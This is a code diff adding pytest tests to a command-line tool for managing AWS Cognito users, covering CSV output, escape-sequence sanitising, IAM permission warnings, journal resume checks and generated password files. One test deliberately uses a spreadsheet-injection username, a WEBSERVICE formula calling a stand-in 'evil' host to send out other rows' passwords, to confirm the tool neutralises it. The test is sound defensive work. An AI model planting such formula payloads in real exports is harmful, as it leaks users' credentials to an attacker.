@@ -13,12 +13,13 @@ from pathlib import Path
 
 import pytest
 
+from cognito_tui.bulk.table import usernames
 from cognito_tui.cognito.model import Secret, UserStatus
 from cognito_tui.sandbox.faults import Fault
 from cognito_tui.sandbox.mail import EmailSender
 from cognito_tui.store.changes import Place
 from cognito_tui.store.journal import About, JournalFile
-from tests.aws.listener import answer, listening
+from tests.aws.listener import answer, listening, refusal
 from tests.cli.at_terminal import CONTROL_C, at_terminal
 from tests.cli.running import alone, here, running
 from tests.cli.town import AT_ONCE, Town, journal_in, outcomes, town
@@ -80,6 +81,12 @@ class TestList:
         assert (ana["Username"], ana["email"], ana["Enabled"]) == ("ana", "ana@example.com", "true")
         assert (formula["Username"], formula["phone_number"]) == ("'=1+1", "'+351210000000")
 
+    def test_csv_of_nobody_is_a_header(self, place: Town) -> None:
+        ran = place.users("list", "--csv", "--filter", 'username = "nobody"')
+        assert (ran.status, ran.err) == (0, "")
+        assert ran.out.startswith("Username,Enabled,")
+        assert len(ran.out.splitlines()) == 1
+
     def test_for_people_it_is_columns(self, place: Town) -> None:
         place.invited("ben")
         place.house.change(enabled=False)
@@ -93,6 +100,7 @@ class TestList:
         for options, shown in (
             ((), "b@x\\x1b]0;x\\x07\\x9b\\x0a\\x202e"),
             (("--json",), "b@x\\u001b]0;x\\u0007\\u009b\\n\\u202e"),
+            (("--csv",), '"b@x\\x1b]0;x\\x07\\x9b\n\\x202e"'),
         ):
             ran = place.users("list", *options)
             assert shown in ran.out
@@ -141,6 +149,16 @@ class TestList:
             "Without it it is not known when temporary passwords expire.",
         ]
 
+    def test_where_the_pool_may_not_be_described_the_iam_action_is_said(self) -> None:
+        denied = refusal("AccessDeniedException", "You are not authorized.")
+        with listening(denied, answer({"Users": []})) as listener:
+            ran = here("users", "list", "--user-pool-id", POOL, "--endpoint-url", listener.url)
+        assert ran.status == 0
+        assert ran.err.splitlines()[0] == (
+            "warning: DescribeUserPool: AccessDeniedException: You are not authorized. "
+            "Grant the IAM action cognito-idp:DescribeUserPool."
+        )
+
     def test_a_pool_that_is_not_there(self, place: Town) -> None:
         ran = here("users", "list", "--user-pool-id", "local_Nowhere", "--endpoint-url", place.url)
         assert (ran.status, ran.out) == (1, "")
@@ -149,8 +167,9 @@ class TestList:
             "User pool local_Nowhere does not exist."
         )
 
-    def test_a_filter_that_is_none(self, place: Town) -> None:
-        ran = place.users("list", "--filter", "nonsense")
+    @pytest.mark.parametrize("form", ["--csv", "--json"])
+    def test_a_filter_that_is_none(self, place: Town, form: str) -> None:
+        ran = place.users("list", form, "--filter", "nonsense")
         assert (ran.status, ran.out) == (1, "")
         assert ran.first.startswith("cognito-tui: ListUsers: InvalidParameterException: ")
 
@@ -519,6 +538,87 @@ class TestResume:
             2, "cognito-tui: --resume has its users from the journal, and no --dry-run"
         )
 
+    @pytest.mark.parametrize(
+        ("options", "what", "said"),
+        [
+            (("--endpoint-url", "http://127.0.0.1:9"), "endpoint", "http://127.0.0.1:9"),
+            (("--region", "eu-west-3"), "region", "eu-west-3"),
+        ],
+    )
+    def test_only_where_it_was_begun(
+        self, place: Town, options: tuple[str, ...], what: str, said: str
+    ) -> None:
+        """Else the rehearsal of a run would change what the journal is of."""
+        place.invited("ben")
+        with JournalFile.begin(about(place), ["ben"]) as begun:
+            journal = begun.path
+        ran = here("users", "resend", "--resume", str(journal), *AT_ONCE, *options)
+        shown = str(journal).replace(str(Path.home()), "~")
+        begun_at = {"endpoint": place.url, "region": "local"}[what]
+        ran.failed(2, f"cognito-tui: {shown} is a journal of the {what} {begun_at}, not of {said}")
+        assert place.house.sandbox.done == {}
+
+    def test_not_at_aws_what_goes_elsewhere_by_a_variable(
+        self, place: Town, monkeypatch: pytest.MonkeyPatch
+    ) -> None:
+        at_aws = replace(about(place), place=Place("eu-west-1_Kq3TzV9aB", "eu-west-1"))
+        with JournalFile.begin(at_aws, ["ben"]) as begun:
+            journal = begun.path
+        monkeypatch.setenv("AWS_ENDPOINT_URL", place.url)
+        ran = here("users", "resend", "--resume", str(journal), *AT_ONCE)
+        shown = str(journal).replace(str(Path.home()), "~")
+        ran.failed(
+            2,
+            f"cognito-tui: {shown} is a journal of the endpoint of AWS, not of {place.url}, "
+            "as AWS_ENDPOINT_URL says",
+        )
+
+    def test_not_in_a_pool_but_the_one_of_a_profile_that_a_variable_names(
+        self, place: Town, monkeypatch: pytest.MonkeyPatch
+    ) -> None:
+        place.invited("ben")
+        with JournalFile.begin(about(place), ["ben"]) as begun:
+            journal = begun.path
+        here(
+            *("profiles", "add", "web", "--user-pool-id", "local_Other", "--endpoint-url", place.url),
+            *("--client-id", "openclient", "--no-secret"),
+        )
+        monkeypatch.setenv("COGNITO_TUI_PROFILE", "web")
+        shown = str(journal).replace(str(Path.home()), "~")
+        here("users", "resend", "--resume", str(journal), *AT_ONCE).failed(
+            2,
+            f"cognito-tui: {shown} is a journal of the user pool {POOL}, not of local_Other, "
+            "as COGNITO_TUI_PROFILE says",
+        )
+        ran = here("users", "resend", "--resume", str(journal), *AT_ONCE, "--user-pool-id", POOL)
+        assert (ran.status, outcomes(ran)) == (0, {"ben": "done"})
+
+    def test_the_same_may_be_said_again(self, place: Town) -> None:
+        place.invited("ben")
+        with JournalFile.begin(about(place), ["ben"]) as begun:
+            journal = begun.path
+        ran = here(
+            *("users", "resend", "--resume", str(journal), *AT_ONCE),
+            *("--endpoint-url", f"{place.url}/", "--region", "local"),
+        )
+        assert (ran.status, outcomes(ran)) == (0, {"ben": "done"})
+
+    def test_a_profile_that_a_variable_names_keeps_it_from_changes(
+        self, place: Town, monkeypatch: pytest.MonkeyPatch
+    ) -> None:
+        place.invited("ben")
+        with JournalFile.begin(about(place), ["ben"]) as begun:
+            journal = begun.path
+        here(
+            *("profiles", "add", "web", *place.options, "--client-id", "openclient", "--no-secret"),
+            "--read-only",
+        )
+        monkeypatch.setenv("COGNITO_TUI_PROFILE", "web")
+        ran = here("users", "resend", "--resume", str(journal), *AT_ONCE)
+        assert (ran.status, ran.out) == (2, "")
+        assert ran.first.startswith("cognito-tui: profile 'web': AdminCreateUser was not sent")
+        assert place.house.sandbox.done == {}
+
     def test_a_journal_that_is_none(self, tmp_path: Path) -> None:
         (tmp_path / "journal").write_text("ana\n")
         ran = here("users", "disable", "--resume", str(tmp_path / "journal"), "--yes")
@@ -542,6 +642,19 @@ class TestPasswords:
             assert place.house.now(name).has_password(Secret(password))
         everything = b"".join(path.read_bytes() for path in (tmp_path / "state").rglob("*") if path.is_file())
         assert not any(password.encode() in everything for password in rows.values())
+
+    def test_no_username_in_the_file_is_computed(self, place: Town, tmp_path: Path) -> None:
+        """Else a spreadsheet would send the passwords of the others to wherever a username says."""
+        evil = '=WEBSERVICE("http://evil/"&B3)'
+        place.invited(evil, "ben")
+        file = tmp_path / "passwords.csv"
+        ran = place.users("set-password", "--temporary", "--generate", str(file), evil, "ben", *AT_ONCE)
+        assert ran.status == 0
+        written = file.read_text()
+        rows = {row["username"]: row["password"] for row in csv.DictReader(io.StringIO(written))}
+        assert set(rows) == {f"'{evil}", "ben"}
+        assert place.house.now(evil).has_password(Secret(rows[f"'{evil}"]))
+        assert set(usernames(written)) == {evil, "ben"}
 
     def test_a_file_that_is_there_is_left_as_it_is(self, place: Town, tmp_path: Path) -> None:
         file = tmp_path / "passwords.csv"
